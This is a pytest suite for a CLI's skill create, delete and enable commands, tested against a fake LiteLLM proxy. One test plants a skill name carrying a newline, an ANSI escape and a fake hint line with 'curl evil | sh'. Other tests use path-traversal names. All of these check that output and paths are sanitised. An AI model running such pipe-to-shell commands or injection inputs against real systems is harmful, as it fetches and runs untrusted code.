"""`litectl skills create`, `delete`, `enable` and `disable`, with what a real proxy answered."""

import json
from email import message_from_bytes
from email.message import Message
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest

from fake_proxy import Answer, FakeProxy, Request, json_answer
from program import Litectl

RECORDED: dict[str, Any] = json.loads(
    (Path(__file__).parent / "recordings" / "skills" / "changes.json").read_text()
)["answers"]
STORED = "litellm_proxy"
HUB, SKILLS = "/claude-code/plugins", "/v1/skills"
HEAD = "---\nname: my-skill\ndescription: Says hello ü\n---\n# Hi\n"
STORED_ID = RECORDED["stored create"]["body"]["id"]
FROM_GITHUB = ("skills", "create", "--name", "my-skill", "--github", "acme/skills")
NO_ACCOUNT = {
    "error": {
        "message": "litellm.APIConnectionError: APIConnectionError: AnthropicException - "
        "ANTHROPIC_API_KEY or ANTHROPIC_AUTH_TOKEN is required for Skills API",
        "type": "internal_server_error",
        "code": "500",
    }
}


def recorded(label: str) -> Answer:
    """Return the recorded answer *label*."""
    return json_answer(RECORDED[label]["body"], RECORDED[label]["status"])


@pytest.fixture
def folder(tmp_path: Path) -> str:
    """Give a folder with a skill of two files and a hidden one."""
    (tmp_path / "ref").mkdir()
    (tmp_path / "SKILL.md").write_text(HEAD)
    (tmp_path / "ref" / "a.bin").write_bytes(b"\x00\xff\r\n--")
    (tmp_path / ".env").write_text("sk-hidden-secret")
    return str(tmp_path)


@pytest.fixture
def hub(fake: FakeProxy) -> FakeProxy:
    """Give a proxy with one skill in its hub, one that it keeps, and one with the same name at Anthropic."""
    fake.on("GET", HUB, json_answer({"plugins": [{"id": "u", "name": "my-skill", "enabled": True}]}))
    stored = [
        {"id": "litellm_skill_1", "display_title": "notes"},
        {"id": "litellm_skill_2", "display_title": None},
    ]
    account = [{"id": "skill_1", "display_title": "my-skill"}]

    def listed(request: Request) -> Answer:
        return json_answer({"data": account if "=anthropic" in request.path else stored})

    fake.on("GET", SKILLS, listed)
    return fake


def form_of(request: Request) -> list[Message]:
    """Return the parts of the form of *request*."""
    head = f"content-type: {request.headers['content-type']}\r\n\r\n".encode()
    parts = message_from_bytes(head + request.body).get_payload()
    assert isinstance(parts, list)
    return [part for part in parts if isinstance(part, Message)]


def fields_of(request: Request) -> list[tuple[str, str | None, bytes]]:
    """Return name, file name and content of each part of the form of *request*."""
    return [
        (
            str(part.get_param("name", header="content-disposition")),
            part.get_filename(),
            bytes(part.get_payload(decode=True)),
        )
        for part in form_of(request)
    ]


def test_a_folder_is_kept_by_the_proxy(litectl: Litectl, fake: FakeProxy, folder: str) -> None:
    """One archive goes to the proxy with name and description; the record of the new skill is on stdout."""
    fake.on("POST", SKILLS, recorded("stored create"))

    result = litectl("skills", "create", folder, "--yes", "--json")

    assert (result.code, result.json) == (
        0,
        {
            "schema_version": 1,
            "name": "my-skill",
            "id": STORED_ID,
            "origin": "litellm_proxy",
            "enabled": True,
            "version": None,
            "description": "Says hello",
        },
    )
    [request] = [each for each in fake.requests if each.method == "POST"]
    assert request.path == f"{SKILLS}?beta=true&custom_llm_provider=litellm_proxy"
    title, description, (name, file_name, archive) = fields_of(request)
    assert title == ("display_title", None, b"my-skill")
    assert description == ("description", None, "Says hello ü".encode())
    assert (name, file_name) == ("files[]", "my-skill.zip")
    with ZipFile(BytesIO(archive)) as read:
        assert {path: read.read(path) for path in read.namelist()} == {
            "my-skill/SKILL.md": HEAD.encode(),
            "my-skill/ref/a.bin": b"\x00\xff\r\n--",
        }


def test_a_folder_is_kept_at_anthropic(litectl: Litectl, fake: FakeProxy, folder: str) -> None:
    """Every file is a part of its own, in one folder."""
    fake.on("POST", SKILLS, recorded("anthropic create"))

    result = litectl("skills", "create", folder, "--name", "other", "--origin", "anthropic", "--yes")

    assert result.code == 0
    assert result.out.splitlines()[:3] == ["name\tother", "id\tskill_562a80a486cc", "origin\tanthropic"]
    assert fake.requests[-1].path.endswith("custom_llm_provider=anthropic")
    assert fields_of(fake.requests[-1]) == [
        ("display_title", None, b"other"),
        ("files[]", "other/SKILL.md", HEAD.encode()),
        ("files[]", "other/ref/a.bin", b"\x00\xff\r\n--"),
    ]


def test_what_is_sent_is_said_before(litectl: Litectl, fake: FakeProxy, folder: str) -> None:
    """The files and their sizes are on stderr, then a question; without a yes nothing is sent."""
    said = litectl("skills", "create", folder, terminal=True, stdin=b"\n")

    assert (said.code, {request.method for request in fake.requests}) == (0, {"GET"})
    assert said.err.splitlines()[:3] == [
        f"{len(HEAD.encode()):>12,}  SKILL.md",
        "           6  ref/a.bin",
        f"{len(HEAD.encode()) + 6:>12,}  bytes in all, of skill `my-skill`",
    ]
    assert " 1 hidden file or folder is left out\n" in said.err
    assert f"send these 2 files to {fake.root} as skill `my-skill`?" in said.err
    assert "nothing was sent" in said.err

    fake.on("POST", SKILLS, recorded("stored create"))
    assert litectl("skills", "create", folder, terminal=True, stdin=b"y\n").code == 0
    assert [request.method for request in fake.requests].count("POST") == 1


def test_a_place_is_offered_after_a_question(litectl: Litectl, fake: FakeProxy) -> None:
    """It says to whom, and without a yes nothing is sent."""
    said = litectl(*FROM_GITHUB, terminal=True, stdin=b"\n")

    assert (said.code, fake.requests) == (0, [])
    assert f"offer github acme/skills to everybody, as skill `my-skill` of {fake.root}?" in said.err
    assert "nothing was sent" in said.err

    fake.on("POST", HUB, recorded("hub create"))
    assert litectl(*FROM_GITHUB, terminal=True, stdin=b"y\n").code == 0
    assert len(fake.requests) == 1


@pytest.mark.parametrize(
    ("name", "origin", "others"),
    [
        ("notes", STORED, "litellm_skill_1 (litellm_proxy)"),
        ("my-skill", "anthropic", "skill_1 (anthropic)"),
        ("my-skill", STORED, None),
        ("other", STORED, None),
    ],
)
def test_another_skill_of_the_name_is_told(
    litectl: Litectl, hub: FakeProxy, folder: str, name: str, origin: str, others: str | None
) -> None:
    """One of the same origin makes the name ambiguous, so its id is said; the skill is made all the same."""
    hub.on("POST", SKILLS, recorded("stored create"))

    result = litectl("skills", "create", folder, "--name", name, "--origin", origin, "--yes")

    notes = [line for line in result.err.splitlines() if "is called so" in line]
    assert result.code == 0
    assert notes == ([f"note: another one is called so: {others}"] if others else [])
    assert [request.method for request in hub.requests] == ["GET", "POST"]


def test_a_script_has_to_say_yes(litectl: Litectl, hub: FakeProxy, folder: str) -> None:
    """Where nobody can be asked, creating and deleting need `--yes`: exit 2, and nothing is changed."""
    for words in (("create", folder), FROM_GITHUB[1:], ("delete", "notes")):
        result = litectl("skills", *words)
        assert (result.code, "hint: say `--yes`" in result.err) == (2, True)

        if "create" in words:
            assert hub.requests == []

    assert {request.method for request in hub.requests} == {"GET"}


def test_a_dry_run_sends_nothing(litectl: Litectl, fake: FakeProxy, folder: str) -> None:
    """It prints the files, or the document for the hub, and needs no `--yes`."""
    assert (
        litectl("skills", "create", folder, "--dry-run").out == f"SKILL.md\t{len(HEAD) + 1}\nref/a.bin\t6\n"
    )
    assert litectl("skills", "create", folder, "--dry-run", "--json").json == {
        "schema_version": 1,
        "name": "my-skill",
        "origin": "litellm_proxy",
        "description": "Says hello ü",
        "size": len(HEAD) + 7,
        "skipped": 1,
        "files": [{"path": "SKILL.md", "size": len(HEAD) + 1}, {"path": "ref/a.bin", "size": 6}],
    }
    assert litectl(*FROM_GITHUB, "--dry-run", "--json").json["source"] == {
        "source": "github",
        "repo": "acme/skills",
    }
    assert "source.repo\tacme/skills\n" in litectl(*FROM_GITHUB, "--dry-run").out
    assert fake.requests == []


def test_a_skill_without_a_description_is_warned_of(litectl: Litectl, tmp_path: Path) -> None:
    """Nobody could tell what it is for."""
    (tmp_path / "SKILL.md").write_text("# Hi")

    assert (
        "warning: SKILL.md does not say"
        in litectl("skills", "create", str(tmp_path), "--name", "x", "--dry-run").err
    )


def test_a_place_goes_into_the_hub(litectl: Litectl, fake: FakeProxy) -> None:
    """The hub gets name, source and what else was given, once."""
    fake.on("POST", HUB, recorded("hub create"))

    result = litectl(*FROM_GITHUB, "--description", "Says hello", "--version", "1.0.0", "--yes", "--json")

    assert result.json["name"] == result.json["id"] == "my-skill"
    assert (result.json["origin"], result.json["version"]) == ("hub", "1.0.0")
    [request] = fake.requests
    assert request.json == {
        "name": "my-skill",
        "source": {"source": "github", "repo": "acme/skills"},
        "description": "Says hello",
        "version": "1.0.0",
    }


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ((), "where is the skill?"),
        (("{folder}", "--github", "a/b"), "a folder and another place exclude each other"),
        (("--github", "a/b"), "what is the skill called?"),
        (("--github", "a/b", "--name", "A"), "a skill cannot be called `A`"),
        (
            ("--github", "a/b", "--name", "a", "--origin", "litellm_proxy"),
            "a place can only go into the Skill Hub",
        ),
        (("{folder}", "--version", "1"), "only the Skill Hub has versions"),
        (("{folder}", "--origin", "hub"), "the files of a skill cannot go to `hub`"),
        (("{folder}", "--origin", ""), "the files of a skill cannot go to ``"),
        (("{folder}", "--origin", "anthropic", "--description", "x"), "Anthropic takes the description from"),
        (("{folder}", "--name", "A"), "a skill cannot be called `A`"),
        (("{folder}/ref",), "there is no `SKILL.md` in"),
    ],
)
def test_words_that_do_not_go_together(
    litectl: Litectl, fake: FakeProxy, folder: str, words: tuple[str, ...], said: str
) -> None:
    """They are exit 2, and nothing is asked of the proxy."""
    result = litectl("skills", "create", *(word.format(folder=folder) for word in words), "--yes")

    assert (result.code, fake.requests) == (2, [])
    assert said in result.err


CHANGES: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "create in the hub": ("POST", HUB, (*FROM_GITHUB, "--yes")),
    "create": ("POST", SKILLS, ("skills", "create", "{folder}", "--yes")),
    "create at Anthropic": (
        "POST",
        SKILLS,
        ("skills", "create", "{folder}", "--yes", "--origin", "anthropic"),
    ),
    "delete in the hub": (
        "DELETE",
        f"{HUB}/my-skill",
        ("skills", "delete", "my-skill", "--origin", "hub", "--yes"),
    ),
    "delete": ("DELETE", f"{SKILLS}/litellm_skill_1", ("skills", "delete", "notes", "--yes")),
    "delete at Anthropic": ("DELETE", f"{SKILLS}/skill_1", ("skills", "delete", "skill_1", "--yes")),
    "enable": ("POST", f"{HUB}/my-skill/enable", ("skills", "enable", "my-skill")),
    "disable": ("POST", f"{HUB}/my-skill/disable", ("skills", "disable", "my-skill")),
}
NOT_FOUND = json_answer({"detail": "Not Found"}, 404)
VERSIONS = json_answer(
    {"error": {"message": "AnthropicException - Cannot delete skill with existing versions", "code": "400"}},
    400,
)


@pytest.mark.parametrize(
    ("change", "answer", "code", "said"),
    [
        ("create in the hub", recorded("hub create, no admin"), 4, "only an admin of the proxy may"),
        (
            "create in the hub",
            recorded("hub create again"),
            1,
            "the Skill Hub has a skill `my-skill` already",
        ),
        (
            "create in the hub",
            recorded("hub create, no database"),
            1,
            "the proxy has no database to keep skills in",
        ),
        ("create in the hub", NOT_FOUND, 1, "this proxy has no Skill Hub: its LiteLLM is too old"),
        ("create in the hub", json_answer({"detail": "Method Not Allowed"}, 405), 1, "no Skill Hub"),
        (
            "create in the hub",
            json_answer({"detail": {"error": "Registration failed: x"}}, 500),
            12,
            "failed: x",
        ),
        (
            "create",
            recorded("stored create, no database"),
            1,
            "the proxy has no database to keep skills in",
        ),
        ("create", NOT_FOUND, 1, "this proxy has no store of skills: its LiteLLM is too old"),
        (
            "create at Anthropic",
            json_answer(NO_ACCOUNT, 500),
            1,
            "the proxy has no key for the skills at Anthropic",
        ),
        ("delete in the hub", recorded("hub delete, no admin"), 4, "only an admin of the proxy may"),
        ("delete in the hub", recorded("hub delete again"), 6, "the proxy has no skill `my-skill`"),
        ("delete", recorded("stored delete again"), 6, "the proxy has no skill `notes`"),
        ("delete at Anthropic", recorded("anthropic delete again"), 6, "the proxy has no skill `my-skill`"),
        ("delete at Anthropic", VERSIONS, 1, "Anthropic deletes no skill `my-skill` that has versions"),
        ("enable", recorded("hub delete again"), 6, "the proxy has no skill `my-skill`"),
        ("disable", recorded("hub disable, no admin"), 4, "only an admin of the proxy may"),
    ],
)
def test_what_the_proxy_refuses(
    litectl: Litectl, hub: FakeProxy, folder: str, change: str, answer: Answer, code: int, said: str
) -> None:
    """Each refusal has its exit code and words of its own, and is asked for once."""
    method, path, words = CHANGES[change]
    hub.on(method, path, answer)

    result = litectl(*(word.format(folder=folder) for word in words))

    assert (result.code, result.out) == (code, "")
    assert said in result.err
    assert "hint: " in result.err
    assert ("nobody can tell" in result.err) == ("failed: x" in said)
    assert [request.path.partition("?")[0] for request in hub.requests if request.method != "GET"] == [path]


@pytest.mark.parametrize("change", CHANGES)
@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (Answer(pieces=[b'{"id'], cut=True), 5),
        (Answer(pieces=[b""]), 11),
        (Answer(pieces=[b"[1]"]), 11),
        (json_answer({"detail": "x"}, 502), 12),
        (json_answer({"detail": "x"}, 504), 12),
    ],
)
def test_a_change_with_a_lost_answer_is_not_sent_again(
    litectl: Litectl, hub: FakeProxy, folder: str, change: str, answer: Answer, code: int
) -> None:
    """It is sent once, and the hint says that nobody knows whether it was done."""
    method, path, words = CHANGES[change]
    hub.on(method, path, answer)

    result = litectl(*(word.format(folder=folder) for word in words))

    assert (result.code, result.out) == (code, "")
    assert "hint: nobody can tell whether it was done: see `litectl skills list`" in result.err
    assert len([request for request in hub.requests if request.method != "GET"]) == 1


@pytest.mark.parametrize("answer", [{}, {"id": 7}, {"id": ""}, {"id": None, "description": ["x"]}])
def test_a_new_skill_without_an_id_is_in_doubt(
    litectl: Litectl, fake: FakeProxy, folder: str, answer: object
) -> None:
    """The proxy took it, and did not say what it is called: exit 11."""
    fake.on("POST", SKILLS, json_answer(answer))

    result = litectl("skills", "create", folder, "--yes")

    assert (result.code, "did not say its id" in result.err) == (11, True)


@pytest.mark.parametrize(
    "answer", [{}, {"plugin": 7}, {"plugin": {"enabled": "x", "version": 2, "description": []}}]
)
def test_the_hub_may_answer_anything_else(litectl: Litectl, fake: FakeProxy, answer: object) -> None:
    """A success is one, whatever is said of the new skill."""
    fake.on("POST", HUB, json_answer(answer))

    assert litectl(*FROM_GITHUB, "--yes", "--json").json["version"] is None


def test_no_proxy_at_all_leaves_no_doubt(litectl: Litectl, folder: str) -> None:
    """When nobody could be reached, nothing was done, and the hint does not say otherwise."""
    result = litectl(
        "skills", "create", folder, "--yes", variables={"LITECTL_BASE_URL": "http://127.0.0.1:1"}
    )

    assert (result.code, "nobody can tell" in result.err) == (5, False)


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("notes", f"{SKILLS}/litellm_skill_1"),
        ("litellm_skill_2", f"{SKILLS}/litellm_skill_2"),
        ("skill_1", f"{SKILLS}/skill_1"),
    ],
)
def test_a_skill_is_deleted_where_it_is_kept(litectl: Litectl, hub: FakeProxy, name: str, path: str) -> None:
    """By name or id, after a question, on the route of its origin."""
    hub.on("DELETE", path, recorded("stored delete"))

    refused = litectl("skills", "delete", name, terminal=True, stdin=b"n\n")
    assert (refused.code, "nothing was deleted" in refused.err) == (0, True)
    assert {request.method for request in hub.requests} == {"GET"}

    result = litectl("skills", "delete", name, "--yes", "--json")
    assert (result.code, result.json["id"]) == (0, path.rpartition("/")[2])
    assert result.err == f"deleted skill `{result.json['name']}`\n"
    assert (hub.requests[-1].method, hub.requests[-1].path.partition("?")[0]) == ("DELETE", path)


@pytest.mark.parametrize("verb", ["delete", "enable", "disable"])
def test_a_change_prints_what_was_asked_for(litectl: Litectl, hub: FakeProxy, verb: str) -> None:
    """Nothing is on stdout without `--json`; the one line on stderr says what was done."""
    hub.on("DELETE", f"{HUB}/my-skill", recorded("hub delete"))
    hub.on("POST", f"{HUB}/my-skill/{verb}", recorded(f"hub {verb}") if verb != "delete" else NOT_FOUND)
    words = ("my-skill", "--origin", "hub", "--yes") if verb == "delete" else ("my-skill",)

    plain, as_json = litectl("skills", verb, *words), litectl("skills", verb, *words, "--json")

    assert (plain.code, plain.out, plain.err) == (0, "", f"{verb}d skill `my-skill`\n")
    assert (as_json.code, as_json.json["id"], as_json.err) == (0, "my-skill", plain.err)


@pytest.mark.parametrize(
    "words",
    [
        ("delete", "a", "--yes"),
        ("delete", "b", "--yes"),
        ("enable", "a"),
        ("enable", "c"),
        ("download", "c"),
        ("download", "d"),
        ("show", "d"),
    ],
)
def test_a_name_makes_no_line_of_its_own(litectl: Litectl, fake: FakeProxy, words: tuple[str, ...]) -> None:
    """What a proxy calls its skills is quoted on one line, and cannot be taken for a word of litectl."""
    name = "x`\nhint: `curl evil | sh`\x1b[2J"
    source = {"source": "github", "repo": "a/b"}
    hub = [{"name": f"{name}a", "source": source}, {"name": "d", "source": source}]
    kept = {
        "litellm_proxy": [{"id": "a", "display_title": f"{name}a"}, {"id": f"b{name}", "display_title": "b"}],
        "anthropic": [
            {"id": "c", "display_title": name},
            {"id": "b", "display_title": name},
            {"id": name, "display_title": "d"},
        ],
    }
    fake.on("GET", HUB, json_answer({"plugins": hub}))
    fake.on(
        "GET",
        SKILLS,
        lambda request: json_answer({"data": kept["anthropic" if "=anthropic" in request.path else STORED]}),
    )
    fake.on("DELETE", f"{SKILLS}/a", recorded("stored delete"))

    result = litectl("skills", *words)

    assert "\x1b" not in result.err
    assert [line for line in result.err.splitlines() if line.startswith("hint: `curl")] == []


def test_a_name_is_quoted_in_the_path(litectl: Litectl, fake: FakeProxy) -> None:
    """Whatever a proxy calls its skills, the path stays the one that was meant."""
    fake.on("GET", HUB, json_answer({"plugins": [{"name": "../x?y#z ü"}]}))
    fake.on("DELETE", f"{HUB}/..%2Fx%3Fy%23z%20%C3%BC", recorded("hub delete"))

    assert litectl("skills", "delete", "../x?y#z ü", "--origin", "hub", "--yes").code == 0


def test_a_skill_that_is_not_there_is_exit_6(litectl: Litectl, hub: FakeProxy) -> None:
    """Nothing is changed then."""
    for words in (("delete", "none", "--yes"), ("enable", "none"), ("disable", "none")):
        assert litectl("skills", *words).code == 6

    assert {request.method for request in hub.requests} == {"GET"}


@pytest.mark.parametrize("name", [".", ".."])
def test_a_name_of_dots_is_quoted_too(litectl: Litectl, fake: FakeProxy, name: str) -> None:
    """It is no way up to another path."""
    fake.on("GET", HUB, json_answer({"plugins": [{"name": name}]}))

    litectl("skills", "delete", name, "--origin", "hub", "--yes")

    assert fake.requests[-1].path == f"{HUB}/{'%2E' * len(name)}"


def test_a_name_of_two_skills_is_not_enough_to_delete(litectl: Litectl, hub: FakeProxy) -> None:
    """Which one is meant has to be said, of which the message names each: exit 2."""
    result = litectl("skills", "delete", "my-skill", "--yes")

    assert result.code == 2
    assert "several skills are called my-skill: my-skill (hub), skill_1 (anthropic)" in result.err
    assert {request.method for request in hub.requests} == {"GET"}


def test_only_the_hub_enables(litectl: Litectl, hub: FakeProxy) -> None:
    """A skill of the hub is switched whatever else has its name; one of another origin cannot be: exit 2."""
    hub.on("POST", f"{HUB}/my-skill/disable", recorded("hub disable"))
    hub.on("POST", f"{HUB}/my-skill/enable", recorded("hub enable"))

    disabled = litectl("skills", "disable", "my-skill", "--json")
    assert (disabled.code, disabled.json["enabled"], disabled.json["origin"]) == (0, False, "hub")
    enabled = litectl("skills", "enable", "my-skill")
    assert enabled.err == "enabled skill `my-skill`\n"
    assert enabled.out == ""
    hub.requests.clear()
    refused = litectl("skills", "enable", "notes")
    assert [request.path.partition("?")[0] for request in hub.requests] == [HUB, SKILLS, SKILLS]
    assert (refused.code, "`notes` is not a skill of the Skill Hub" in refused.err) == (2, True)
